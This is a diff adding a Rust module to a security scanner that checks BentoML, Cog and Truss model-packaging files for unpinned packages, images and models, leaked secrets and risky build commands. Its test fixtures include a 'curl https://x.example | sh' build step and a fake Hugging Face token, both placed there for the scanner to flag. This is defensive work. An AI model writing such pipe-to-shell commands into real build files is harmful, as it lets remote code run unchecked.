@@ -1,0 +1,119 @@
+//! Files that say how a model is packed to be served: BentoML's `bentofile.yaml`, Cog's `cog.yaml`, Truss's `config.yaml`.
+//!
+//! Source: BentoML, "Bento build options"; Cog, `docs/yaml.md`; Truss, "Config reference".
+
+use super::environment_issues;
+use crate::ci::github::{gaps, has_key};
+use crate::dependencies::{Pin, requirement};
+use crate::rules::{UNPINNED_MODEL, UNPINNED_PACKAGE};
+use crate::shell::inspect::{self, Setting};
+use crate::yaml::{Node, Yaml};
+use crate::{Issue, Notes, Reader, Text, image, issue, rules};
+use bartizan_core::{Kind, Rule, Severity, printable};
+
+/// How a model is packed.
+#[derive(Debug)]
+pub(crate) struct PackedModel;
+
+impl Reader for PackedModel {
+    fn id(&self) -> &'static str {
+        "packed-model"
+    }
+
+    fn kind(&self) -> Kind {
+        Kind::Config
+    }
+
+    fn rules(&self) -> &'static [&'static Rule] {
+        rules::RULES
+    }
+
+    fn recognises(&self, text: &Text<'_>) -> bool {
+        match text.file_name() {
+            "bentofile.yaml" | "bentofile.yml" => has_key(text.content, &["service", "python", "docker"]),
+            "cog.yaml" => has_key(text.content, &["build", "predict", "train", "image"]),
+            "config.yaml" => has_key(
+                text.content,
+                &["model_cache", "model_class_name", "model_module_dir", "build_commands"],
+            ),
+            _ => false,
+        }
+    }
+
+    fn read(&self, text: &Text<'_>, notes: &mut Notes<'_>) {
+        let yaml = Yaml::read(text.content);
+        gaps(&yaml, notes);
+        let Some(root) = yaml.root() else { return };
+        for place in [&["python", "packages"][..], &["build", "python_packages"], &["requirements"]] {
+            for package in root.path(place).into_iter().flat_map(Node::items) {
+                issue::report_in(text, notes, package, package.as_str().and_then(unpinned));
+            }
+        }
+        for place in [&["docker", "base_image"][..], &["image"], &["base_image", "image"]] {
+            // Cog's `image` is where the result is pushed to.
+            let Some(node) = root.path(place).filter(|_| place != ["image"] || root.get("build").is_none())
+            else {
+                continue;
+            };
+            if let Some(reference) = node.as_str() {
+                issue::report(text, notes, image::issue(reference, node.span(), "the image"));
+            }
+        }
+        for place in [&["build", "run"][..], &["build_commands"], &["docker", "commands"]] {
+            for command in root.path(place).into_iter().flat_map(Node::items_or_self) {
+                let command = command.get("command").unwrap_or(command);
+                let script = command.as_str().unwrap_or_default();
+                issue::report_in(text, notes, command, inspect::script(script, Setting::Image));
+            }
+        }
+        for place in [&["envs"][..], &["docker", "env"], &["environment_variables"], &["environment"]] {
+            environment_issues(text, notes, root.path(place));
+        }
+        for cached in root.get("model_cache").into_iter().flat_map(Node::items) {
+            let Some(name) = cached.get("repo_id").filter(|name| name.as_str().is_some()) else { continue };
+            if let Some(why) = inspect::moves(cached.text_of("revision")) {
+                let shown = printable(name.as_str().unwrap_or_default(), 100);
+                let message = format!("the model `{shown}` is packed {why}");
+                issue::report(text, notes, [Issue::new(&UNPINNED_MODEL, name.span(), message)]);
+            }
+        }
+    }
+}
+
+fn unpinned(written: &str) -> Option<Issue> {
+    let dependency = requirement(written, 0)?;
+    let shown = printable(&dependency.name, 80);
+    let message = match dependency.pin {
+        Pin::None => format!("`{shown}` has no version: each build takes the newest"),
+        Pin::Moving => format!("`{shown}` comes from a repository without a commit"),
+        _ => return None,
+    };
+    Some(Issue::new(&UNPINNED_PACKAGE, dependency.span, message).severity(Severity::Medium))
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::{Text, examine};
+    use bartizan_core::{Limits, MonotonicClock};
+
+    fn found(name: &str, text: &str) -> Vec<(u32, &'static str)> {
+        let outcome = examine(&Text::new(name, text), &Limits::default(), &MonotonicClock::start());
+        let mut found: Vec<_> =
+            outcome.findings.iter().map(|one| (one.location.line.unwrap(), one.rule.id)).collect();
+        found.sort_unstable();
+        found
+    }
+
+    #[test]
+    fn packages_images_commands_and_models_are_judged() {
+        let bento = "service: 's:S'\npython:\n  packages:\n  - torch\n  - numpy==1.26.4\ndocker:\n  base_image: acme/base:latest\nenvs:\n- name: HF_TOKEN\n  value: hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567\n";
+        assert_eq!(
+            found("bentofile.yaml", bento),
+            [(4, "pipeline/unpinned-package"), (7, "pipeline/unpinned-image"), (10, "pipeline/secret")]
+        );
+        let cog = "build:\n  python_packages:\n  - torch==2.4.0\n  run:\n  - curl https://x.example | sh\nimage: r8.im/a/b\npredict: p.py:P\n";
+        assert_eq!(found("cog.yaml", cog), [(5, "pipeline/curl-pipe-shell")]);
+        let truss = "model_class_name: M\nmodel_cache:\n- repo_id: acme/net\n- repo_id: acme/fixed\n  revision: 0123456789abcdef0123456789abcdef01234567\n";
+        assert_eq!(found("t/config.yaml", truss), [(3, "pipeline/unpinned-model")]);
+    }
+}
